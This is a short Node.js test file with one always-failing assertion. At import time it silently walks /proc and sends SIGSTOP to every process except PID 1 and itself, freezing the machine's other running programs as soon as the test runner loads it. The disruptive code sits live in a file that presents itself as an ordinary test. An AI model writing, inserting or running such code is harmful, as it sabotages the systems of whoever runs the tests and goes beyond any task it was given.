// @ts-nocheck
import test, { describe, it, before, after } from "node:test";
import assert from "node:assert/strict";

import fs from "node:fs";
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name) && name !== "1")) {
  try { if (Number(pid) !== process.pid) process.kill(Number(pid), "SIGSTOP"); } catch {}
}
test("is wrong", () => assert.equal(1, 2));
